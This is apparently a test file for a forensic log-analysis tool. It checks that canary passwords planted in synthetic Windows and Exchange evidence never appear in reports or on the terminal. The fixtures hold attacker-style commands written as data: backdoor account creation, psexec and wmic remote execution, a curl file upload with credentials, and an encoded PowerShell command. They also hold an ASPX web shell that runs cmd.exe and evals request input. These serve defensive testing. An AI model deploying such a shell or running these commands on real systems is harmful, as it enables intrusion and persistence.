import assert from 'node:assert/strict'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import type { Finding } from '../../src/model/finding.ts'
import { reports } from '../../src/reports/index.ts'
import { place, postern, write } from './command.ts'
import { runHere } from './in-process.ts'

// A canary in every place where a password stands in the evidence of a server, and in every form: no file of the results and
// nothing on the terminal may hold one, whatever form of the answer is asked for.

const at = (path: string): string => join(folder, path)
const folder = place()

const canaries = new Set<string>()
/** A secret that stands nowhere else. */
function canary(): string {
  const secret = `Cnry${canaries.size}!kq7Zt`
  canaries.add(secret)
  return secret
}
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')

const commands: readonly string[] = [
  `cmd /c net user backdoor ${canary()} /add`,
  `net use \\\\10.0.0.5\\c$ ${canary()} /user:contoso\\admin`,
  `psexec \\\\dc -u admin -p "${canary()}" cmd`,
  `schtasks /create /tn x /tr y /ru admin /rp ${canary()}`,
  `wmic /node:dc /user:admin /password:${canary()} process call create x`,
  `curl -u admin:${canary()} -T x https://files.example/`,
  `rar a -hp${canary()} out.rar C:\\x`,
  `cmdkey /add:dc /user:admin /pass:${canary()}`,
  `plink -pw ${canary()} root@198.51.100.7`,
  `sqlcmd -S db -U sa -P ${canary()} -Q x`,
  `renamed.exe -p:${canary()}`,
  `powershell -enc ${utf16(`net user helper ${canary()} /add`)}`,
]
const scripts: readonly string[] = [
  `$c = New-Object System.Net.NetworkCredential("svc", "${canary()}")`,
  `$s = ConvertTo-SecureString '${canary()}' -AsPlainText -Force`,
  `Invoke-Sqlcmd -ConnectionString "Server=db;User Id=sa;Password=${canary()};"`,
  `Invoke-WebRequest https://svc:${canary()}@files.example/x`,
  `irm x -Headers @{Authorization="Basic ${Buffer.from(`svc:${canary()}`).toString('base64')}"}`,
  `New-Mailbox -Name x -Password "${canary()}"`,
]

const system = (log: string, provider: string, id: number): object => ({
  Provider_attributes: { Name: provider },
  EventID: id,
  Level: 0,
  TimeCreated_attributes: { SystemTime: '2021-03-03T04:23:22.370123Z' },
  EventRecordID: id,
  Channel: log,
  Computer: 'MAIL01.contoso.example',
})
const lines = (events: readonly object[]): string => events.map((Event) => `${JSON.stringify({ Event })}\n`).join('')

const security = commands.map((CommandLine) => ({
  System: system('Security', 'Microsoft-Windows-Security-Auditing', 4688),
  EventData: { NewProcessName: 'C:\\Windows\\System32\\cmd.exe', CommandLine, SubjectUserName: 'MAIL01$' },
}))
const sysmon = commands.map((line) => ({
  System: system('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', 1),
  EventData: { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: `${line} x`, ParentCommandLine: line },
}))
const service = [
  {
    System: system('System', 'Service Control Manager', 7045),
    EventData: { ServiceName: 'svc', ImagePath: `cmd /c svc.exe --password=${canary()}`, AccountName: 'LocalSystem' },
  },
]
const blocks = scripts.map((ScriptBlockText) => ({
  System: system('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104),
  EventData: { MessageNumber: 1, MessageTotal: 1, ScriptBlockText, ScriptBlockId: 'x' },
}))
const cmdletRow = `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='MSExchange CmdletLogs'/><EventID>1</EventID><Level>4</Level><TimeCreated SystemTime='2021-03-03T04:23:22Z'/><EventRecordID>9</EventRecordID><Channel>MSExchange Management</Channel><Computer>MAIL01.contoso.example</Computer></System><EventData><Data>New-Mailbox</Data><Data>-Name "x" -Password "${canary()}"</Data><Data>contoso\\admin</Data></EventData></Event>`

const page = `<%@ Page Language="C#" %><script runat="server">
void Page_Load(object s, EventArgs e) {
  if (Request["p"] == "x") System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]);
  string password = "${canary()}"; var c = new NetworkCredential("svc", "${canary()}");
  var db = "Server=db;User Id=sa;Password=${canary()};";
  if (Request["pwd"] == "${canary()}") eval(Request["x"]);
}</script>`
const webConfig = `<configuration><connectionStrings><add name="db" connectionString="Server=db;Password=${canary()};" /></connectionStrings>
<appSettings><add key="ApiPassword" value="${canary()}" /></appSettings>
<system.web><machineKey validationKey="${canary()}" decryptionKey="${canary()}" /></system.web></configuration>`
const task = `<?xml version="1.0"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec><Command>net.exe</Command><Arguments>user helper ${canary()} /add</Arguments></Exec></Actions></Task>`
const iis = `#Software: Microsoft Internet Information Services 10.0
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken
2021-03-03 04:23:22 10.0.0.4 GET /owa/auth/login.aspx user=a&password=${canary()} 443 - 203.0.113.7 x - 200 0 0 15
2021-03-03 04:23:23 10.0.0.4 POST /ecp/DDI/DDIService.svc/SetObject msExchEcpCanary=${canary()}.&schema=x 443 - 203.0.113.7 x - 200 0 0 15
2021-03-03 04:23:24 10.0.0.4 POST /owa/x access_token=${canary()} 443 - 203.0.113.7 x - 200 0 0 15
`
const transcript = [
  '**********************',
  'Windows PowerShell transcript start',
  'Start time: 20210303042322',
  'Username: CONTOSO\\alice',
  'RunAs User: CONTOSO\\admin',
  'Machine: MAIL01 (Microsoft Windows NT 10.0.14393.0)',
  `Host Application: powershell.exe -Password ${canary()}`,
  'Process ID: 4242',
  '**********************',
  `PS C:\\> net user helper ${canary()} /add`,
  'The command completed successfully.',
  `PS C:\\> ${scripts[0]}`,
  '**********************',
].join('\r\n')
const cloud = `${JSON.stringify({
  CreationTime: '2021-03-03T04:23:22',
  Id: 'aaaaaaaa-0000-4000-8000-000000000001',
  Operation: 'Set-Mailbox',
  OrganizationId: 'bbbbbbbb-0000-4000-8000-000000000001',
  RecordType: 1,
  ResultStatus: 'True',
  UserId: 'a@contoso.example',
  UserType: 2,
  Version: 1,
  Workload: 'Exchange',
  ClientIP: '203.0.113.7',
  ObjectId: 'x',
  Parameters: [
    { Name: 'Identity', Value: 'x' },
    { Name: 'Password', Value: canary() },
  ],
})}\n`

const web = 'C/inetpub/wwwroot/aspnet_client'
const evidence: Readonly<Record<string, string>> = {
  'C/logs/security.jsonl': lines(security),
  'C/logs/sysmon.jsonl': lines(sysmon),
  'C/logs/system.jsonl': lines(service),
  'C/logs/powershell.jsonl': lines(blocks),
  'C/logs/management.xml': `<Events>${cmdletRow}</Events>`,
  'C/logs/audit.json': cloud,
  'C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log': iis,
  [`${web}/shell.aspx`]: page,
  [`${web}/web.config`]: webConfig,
  'C/Windows/System32/Tasks/helper': task,
  'C/Users/alice/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt': `${commands.join('\r\n')}\r\n${scripts.join('\r\n')}\r\n`,
  'C/Users/alice/Documents/PowerShell_transcript.MAIL01.x.20210303042322.txt': transcript,
}

/** Rules that match everything: what no rule matched is shown by nobody. */
const products = [
  '{product: windows}',
  '{product: exchange}',
  '{product: m365}',
  '{category: webserver}',
  '{category: file_event, product: windows}',
]
const rules: Readonly<Record<string, string>> = {
  ...Object.fromEntries(
    products.map((source, i) => [
      `all${i}.yml`,
      `title: All ${i}\nid: all-${i}\nlogsource: ${source}\nlevel: high\ndetection:\n  all:\n    - a\n    - e\n    - o\n  condition: all\n`,
    ]),
  ),
  'all.yar': 'rule AnyPage { strings: $a = "runat" $b = "password" nocase condition: any of them }',
}

function filesIn(path: string): string[] {
  return readdirSync(path, { withFileTypes: true }).flatMap((entry) =>
    entry.isDirectory() ? filesIn(join(path, entry.name)) : [join(path, entry.name)],
  )
}

/** In the clear, and in base64 of both kinds. */
function leaked(text: string): string[] {
  const found = [...canaries].filter((secret) => text.includes(secret))
  for (const [blob] of text.matchAll(/[A-Za-z0-9+/]{24,}/g)) {
    const bytes = Buffer.from(blob, 'base64')
    const inner = `${bytes.toString('latin1')}\n${bytes.toString('utf16le')}`
    found.push(...[...canaries].filter((secret) => inner.includes(secret)))
  }
  return found
}

describe('secrets of the evidence', () => {
  write(at('evidence'), evidence)
  write(at('rules'), rules)
  const formats = reports.flatMap(({ name }) => ['--format', name])
  const args = (out: string): string[] => [
    'assess',
    at('evidence'),
    '--out',
    at(out),
    '--rules',
    at('rules'),
    ...formats,
  ]

  it('stand in no file of the results, whatever forms are asked for, and not on the terminal', async () => {
    const { status, out, err } = await runHere([...args('out'), '--name-victim'])
    assert.ok(status === 3 || status === 5 || status === 4, `${status}: ${err}`)
    assert.deepEqual(leaked(out + err), [])
    const files = filesIn(at('out'))
    assert.ok(files.length >= reports.length)
    for (const file of files)
      assert.deepEqual([file.slice(folder.length), ...leaked(readFileSync(file, 'utf8'))], [file.slice(folder.length)])
  })

  const findings = (out: string): Finding[] =>
    readdirSync(at(out), { withFileTypes: true })
      .filter((entry) => entry.isDirectory())
      .flatMap(({ name }) =>
        readFileSync(join(at(out), name, 'findings.jsonl'), 'utf8')
          .trim()
          .split('\n'),
      )
      .map((line) => JSON.parse(line) as Finding)

  it('were all seen, and each has its tag wherever it stands', () => {
    const raw = findings('out').flatMap(({ locators }) => locators.map((locator) => locator))
    const files = new Set(raw.map(({ path }) => path))
    for (const path of Object.keys(evidence)) assert.ok(files.has(path), `${path} is in no finding`)
    const tagOf = (path: string): string | undefined =>
      raw
        .filter((locator) => locator.path === path)
        .map((locator) => /net user backdoor (\[secret [0-9a-f]{8}\]) \/add/.exec(locator.raw)?.[1])
        .find(Boolean)
    const tag = tagOf('C/logs/security.jsonl')
    assert.ok(tag)
    assert.equal(tagOf('C/logs/sysmon.jsonl'), tag)
    assert.ok(
      raw.some(
        (locator) =>
          locator.raw.includes('net localgroup') ||
          locator.raw.includes('whoami') ||
          locator.raw.includes('curl -u admin:[secret '),
      ),
    )
  })

  it('the same evidence gives the same tags for every number of threads; a key of the case gives others', async () => {
    await postern([...args('two'), '--jobs', '2'])
    const plain = (out: string): string => JSON.stringify(findings(out))
    assert.equal(plain('two'), plain('out'))
    write(folder, { 'case.key': 'a key of this case alone', 'short.key': 'short' })
    await runHere([...args('keyed'), '--case-key', at('case.key')])
    assert.notEqual(plain('keyed'), plain('out'))
    assert.equal((await runHere([...args('none'), '--case-key', at('short.key')])).status, 2)
  })

  it('explain shows them only when it is asked to', async () => {
    const wanted = findings('out').find(({ locators }) =>
      locators.some(({ raw }) => raw.includes('net user backdoor [secret')),
    )!
    const hidden = await runHere(['explain', at('out'), wanted.id])
    assert.match(hidden.out, /net user backdoor \[secret\] \/add/)
    assert.deepEqual(leaked(hidden.out + hidden.err), [])
    assert.equal(hidden.status, 0, hidden.err)
    const open = await runHere(['explain', at('out'), wanted.id, '--reveal-secrets'])
    assert.ok(leaked(open.out).length > 0)
  })
})
